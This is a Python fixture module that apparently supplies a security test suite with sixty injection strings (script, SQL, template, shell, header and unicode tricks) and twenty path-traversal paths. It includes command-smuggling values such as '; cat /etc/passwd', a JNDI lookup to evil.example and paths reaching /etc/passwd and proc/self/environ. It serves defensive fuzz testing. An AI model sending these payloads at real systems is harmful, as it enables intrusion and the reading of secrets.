"""Texts that strangers put into titles, ids and addresses: sixty of them, each with what it is after."""

from __future__ import annotations

PAYLOADS: dict[str, list[str]] = {
    "scripts": [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
        "<iframe srcdoc='<script>alert(1)</script>'>", "</title><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "'-alert(1)-'", "\\u003cscript\\u003ealert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "<math><mtext></p><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<style>@import'//evil.example'</style>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "\u2028alert(1)\u2029", "＜script＞alert(1)＜/script＞",
    ],
    "databases": [
        "'; DROP TABLE papers; --", "\" OR \"1\"=\"1", "1 UNION SELECT NULL, version()", "admin'/*", "{\"$ne\": null}",
        "*)(uid=*))(|(uid=*", "' AND SLEEP(5) --", "1; ATTACH DATABASE '/tmp/x' AS x",
    ],
    "templates and shells": [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__.__init__.__globals__}}", "$(touch /tmp/x)", "`id`",
        "; cat /etc/passwd", "| id", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "%s%n%x",
        "__import__('os').system('id')", "!!python/object/apply:os.system ['id']", "\\input{/etc/passwd}",
    ],
    "headers": ["a\r\nSet-Cookie: x=y", "a\nLocation: //evil.example", "a%0d%0aSet-Cookie: x=y", "a\r\n\r\n<script>alert(1)</script>"],
    "signs": [
        "a\x00b", "\u202egnp.exe", "\ufeffbom", "\x1b[31mred\x1b[0m", "İıſK\u0130", "e\u0301" * 50, "\U0010ffff", "😀" * 60,
        "\u200b\u200d\u2060", "ａｄｍｉｎ", "..\u2215..\u2215etc", "Z\u0338\u0321\u0353\u0324" * 20, "%c0%ae%c0%ae/", "\\x3cscript\\x3e",
    ],
}  # fmt: skip

ALL = [(kind, text) for kind, texts in PAYLOADS.items() for text in texts]
assert len(ALL) == len({text for _, text in ALL}) == 60, len(ALL)

PLACES = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd", "/etc/passwd",
    "..\\..\\etc\\passwd", "%252e%252e%252fetc%252fpasswd", "page/../../../pyproject.toml", "page/%2e%2e/%2e%2e/app.py",
    "page/..%5c..%5capp.py", "file:///etc/passwd", ".git/config", "index/state.json", "..;/etc/passwd", "%c0%ae%c0%ae/etc/passwd",
    "etc/passwd%00.html", "page/index.html%00.py", "proc/self/environ", "~root/.bashrc", "page//etc/passwd",
]  # fmt: skip
"""Paths that lead to files which are nobody's business."""
